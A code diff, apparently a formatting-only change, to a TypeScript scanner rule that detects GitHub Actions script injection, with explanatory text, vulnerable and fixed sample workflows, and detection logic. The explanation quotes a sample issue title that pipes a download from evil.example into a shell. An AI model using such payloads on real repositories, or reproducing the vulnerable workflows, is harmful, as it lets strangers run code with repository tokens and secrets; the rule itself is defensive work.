@@ -15,17 +15,42 @@ export const workflowScriptInjection: ConfigurationRule = {
     cwe: ['CWE-78', 'CWE-94'],
     owaspMcp: ['MCP04:2025', 'MCP05:2025'],
     safeMcp: ['SAFE-T1002'],
-    what: 'A workflow of GitHub puts a title, a text or a branch name that anybody may choose into a script with `${{ … }}`, directly or by way of `env`. Such expressions are filled in before the script is read.',
-    why: 'A title such as `"; curl evil.example | sh; "` becomes commands. They run with the token and, in most of these events, with the secrets of the repository: what it publishes is then the stranger\'s.',
-    remediation: 'Hand the value over in `env:` and use it as a variable of the shell in quotes: `env: { TITLE: ${{ github.event.issue.title }} }` and `"$TITLE"`.',
+    what:
+      'A workflow of GitHub puts a title, a text or a branch name that anybody may choose into a script with ' +
+      '`${{ … }}`, directly or by way of `env`. Such expressions are filled in before the script is read.',
+    why:
+      'A title such as `"; curl evil.example | sh; "` becomes commands. They run with the token and, in most ' +
+      "of these events, with the secrets of the repository: what it publishes is then the stranger's.",
+    remediation:
+      'Hand the value over in `env:` and use it as a variable of the shell in quotes: `env: { TITLE: ${{ ' +
+      'github.event.issue.title }} }` and `"$TITLE"`.',
     examples: {
       bad: [
-        exampleFiles({ '.github/workflows/greet.yml': "on: issues\npermissions:\n  issues: write\njobs:\n  greet:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: echo \"New issue ${{ github.event.issue.title }}\"" }),
-        exampleFiles({ '.github/workflows/answer.yml': "on:\n  issue_comment:\n    types: [created]\npermissions:\n  contents: write\njobs:\n  answer:\n    runs-on: ubuntu-24.04\n    env:\n      COMMENT: ${{ github.event.comment.body }}\n    steps:\n      - run: |\n          echo \"${{ env.COMMENT }}\" >> words.txt" }),
+        exampleFiles({
+          '.github/workflows/greet.yml':
+            'on: issues\npermissions:\n  issues: write\njobs:\n  greet:\n    runs-on: ubuntu-24.04\n    ' +
+            'steps:\n      - run: echo "New issue ${{ github.event.issue.title }}"',
+        }),
+        exampleFiles({
+          '.github/workflows/answer.yml':
+            'on:\n  issue_comment:\n    types: [created]\npermissions:\n  contents: write\njobs:\n  ' +
+            'answer:\n    runs-on: ubuntu-24.04\n    env:\n      COMMENT: ${{ github.event.comment.body ' +
+            '}}\n    steps:\n      - run: |\n          echo "${{ env.COMMENT }}" >> words.txt',
+        }),
       ],
       good: [
-        exampleFiles({ '.github/workflows/greet.yml': "on: issues\npermissions:\n  issues: write\njobs:\n  greet:\n    runs-on: ubuntu-24.04\n    steps:\n      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: echo \"New issue $TITLE\"" }),
-        exampleFiles({ '.github/workflows/count.yml': "on: issues\npermissions: {}\njobs:\n  count:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: echo \"Issue ${{ github.event.issue.number }}, a bug ${{ contains(github.event.issue.title, 'bug') }}\"" }),
+        exampleFiles({
+          '.github/workflows/greet.yml':
+            'on: issues\npermissions:\n  issues: write\njobs:\n  greet:\n    runs-on: ubuntu-24.04\n    ' +
+            'steps:\n      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: echo "New ' +
+            'issue $TITLE"',
+        }),
+        exampleFiles({
+          '.github/workflows/count.yml':
+            'on: issues\npermissions: {}\njobs:\n  count:\n    runs-on: ubuntu-24.04\n    steps:\n      - ' +
+            'run: echo "Issue ${{ github.event.issue.number }}, a bug ${{ ' +
+            "contains(github.event.issue.title, 'bug') }}\"",
+        }),
       ],
     },
   },
@@ -35,7 +60,8 @@ export const workflowScriptInjection: ConfigurationRule = {
     for (const job of workflow.jobs) {
       for (const step of job.steps) {
         const tainted = [workflow.env, under(job.value, 'env'), under(step.value, 'env')].map(namesOfStrangersWords)
-        for (const script of scriptsOf(step)) yield* injected(file, workflow, job, script, (name) => tainted.some((names) => names.has(name)))
+        for (const script of scriptsOf(step))
+          yield* injected(file, workflow, job, script, (name) => tainted.some((names) => names.has(name)))
       }
     }
   },
@@ -44,28 +70,59 @@ export const workflowScriptInjection: ConfigurationRule = {
 /** Inputs of actions that are scripts or commands, such as `script` of `actions/github-script`. */
 const scriptInput = /^(?:script|run|inline-?script|commands?|cmd|bash|shell-?command|code)$/i
 
-const scriptsOf = ({ run, with: inputs }: Step): ScalarValue[] => [...(run ? [run] : []), ...inputs.flatMap(({ key, value }) => (scriptInput.test(key) && value.kind === 'scalar' ? [value] : []))]
+const scriptsOf = ({ run, with: inputs }: Step): ScalarValue[] => [
+  ...(run ? [run] : []),
+  ...inputs.flatMap(({ key, value }) => (scriptInput.test(key) && value.kind === 'scalar' ? [value] : [])),
+]
 
-/** What is known of a mapping of variables and of a script: thousands of steps may have the same ones, and looking takes time. */
+/**
+ * What is known of a mapping of variables and of a script: thousands of steps may have the same ones, and looking takes
+ * time.
+ */
 const namesOf = new WeakMap<Value, ReadonlySet<string>>()
 const wordsOf = new WeakMap<ScalarValue, readonly PutIn[]>()
 
 function namesOfStrangersWords(env: Value | undefined): ReadonlySet<string> {
   if (!env) return new Set()
-  const names = namesOf.get(env) ?? new Set(entriesOf(env).filter(({ value }) => expressionsIn(textOf(value) ?? '').some((expression) => wordsIn(expression).strangers !== undefined)).map(({ key }) => key))
+  const names =
+    namesOf.get(env) ??
+    new Set(
+      entriesOf(env)
+        .filter(({ value }) =>
+          expressionsIn(textOf(value) ?? '').some((expression) => wordsIn(expression).strangers !== undefined),
+        )
+        .map(({ key }) => key),
+    )
   namesOf.set(env, names)
   return names
 }
 
-function* injected(file: SettingsFile, workflow: Workflow, { id, permissions }: Job, script: ScalarValue, isTainted: (name: string) => boolean): Generator<Remark> {
+function* injected(
+  file: SettingsFile,
+  workflow: Workflow,
+  { id, permissions }: Job,
+  script: ScalarValue,
+  isTainted: (name: string) => boolean,
+): Generator<Remark> {
   for (const { words, text, variable } of injections(script)) {
     if (variable !== undefined && !isTainted(variable)) continue
     const privileged = privilegedOf(workflow)
-    const harmless = isHarmless(textOf((permissions ?? workflow.permissions)?.value), permissions ?? workflow.permissions)
+    const harmless = isHarmless(
+      textOf((permissions ?? workflow.permissions)?.value),
+      permissions ?? workflow.permissions,
+    )
     const rights = privileged.length > 0 && !harmless
     yield {
       title: `\`${words}\` becomes part of a script in ${file.path}`,
-      message: `The job ${id} puts \`${words}\`, which ${privileged.length > 0 ? 'anybody' : 'whoever opens a pull request or writes a commit'} may choose, into a script before it is read. ${rights ? `On ${privileged.join(' and ')} it runs with the token and the secrets of the repository.` : 'What it starts runs with what this run may do.'}`,
+      message:
+        `The job ${id} puts \`${words}\`, which ` +
+        `${privileged.length > 0 ? 'anybody' : 'whoever opens a pull request or writes a commit'} may choose, ` +
+        'into a script before it is read. ' +
+        `${
+          rights
+            ? `On ${privileged.join(' and ')} it runs with the token and the secrets of the repository.`
+            : 'What it starts runs with what this run may do.'
+        }`,
       subject: `${id} ${words}`,
       at: file.placeAt(file.offsetOf(text, script.offset)),
       severity: rights ? 'high' : 'medium',
@@ -90,9 +147,12 @@ function injections(script: ScalarValue): readonly PutIn[] {
   for (const expression of expressionsIn(script.text)) {
     const { strangers, variable } = wordsIn(expression)
     const words = strangers ?? (variable === undefined ? undefined : `env.${variable}`)
-    if (words !== undefined && !found.has(words)) found.set(words, { words, text: expression.text, ...(variable !== undefined && { variable }) })
+    if (words !== undefined && !found.has(words))
+      found.set(words, { words, text: expression.text, ...(variable !== undefined && { variable }) })
   }
-  for (const [text, name = ''] of script.text.matchAll(/\b(?:eval|(?:ba|z|da)?sh -c)\s[^\n]{0,200}?\$\{?(\w{1,100})/g)) {
+  for (const [text, name = ''] of script.text.matchAll(
+    /\b(?:eval|(?:ba|z|da)?sh -c)\s[^\n]{0,200}?\$\{?(\w{1,100})/g,
+  )) {
     if (!found.has(name)) found.set(name, { words: name, text, variable: name })
   }
   const words = [...found.values()]
@@ -102,5 +162,9 @@ function injections(script: ScalarValue): readonly PutIn[] {
 
 /** Without any right of the token: `permissions: {}` or `read-all`. Secrets of its own a job may still have. */
 function isHarmless(text: string | undefined, permissions: { readonly value: Value } | undefined): boolean {
-  return text === 'read-all' || (permissions?.value.kind === 'mapping' && permissions.value.entries.every(({ value }) => /^(?:read|none)$/.test(textOf(value) ?? '')))
+  return (
+    text === 'read-all' ||
+    (permissions?.value.kind === 'mapping' &&
+      permissions.value.entries.every(({ value }) => /^(?:read|none)$/.test(textOf(value) ?? '')))
+  )
 }
